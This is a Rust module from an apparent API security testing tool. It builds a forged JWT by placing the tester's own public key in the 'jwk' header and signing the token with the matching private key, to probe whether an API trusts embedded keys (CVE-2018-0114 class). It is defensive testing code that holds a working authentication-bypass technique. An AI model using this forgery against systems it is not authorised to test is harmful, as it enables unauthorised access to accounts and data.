//! `embedded_jwk`: the token carries its own verification key in the `jwk` header
//! (authspec's public key) and is signed with it. An API that trusts an embedded key
//! accepts a token anyone can make (CVE-2018-0114 class). CWE-347; OWASP API2:2023.

use super::{Input, Mutation, Plan, jwt, one};

pub struct EmbeddedJwk;

impl Mutation for EmbeddedJwk {
    fn name(&self) -> &'static str {
        "embedded_jwk"
    }

    fn plan(&self, input: &Input<'_>) -> Plan {
        let jwt = match jwt(input) {
            Ok(j) => j,
            Err(skip) => return skip,
        };
        let mut t = jwt.clone();
        t.header.remove("kid");
        t.header.insert("jwk".into(), input.attacker.jwk.clone());
        match t.signed(&input.attacker.key, jsonwebtoken::Algorithm::RS256) {
            Ok(token) => one("jwk header with authspec's key, signed with it", token),
            Err(e) => Plan::Skip(format!("cannot sign: {e}")),
        }
    }
}
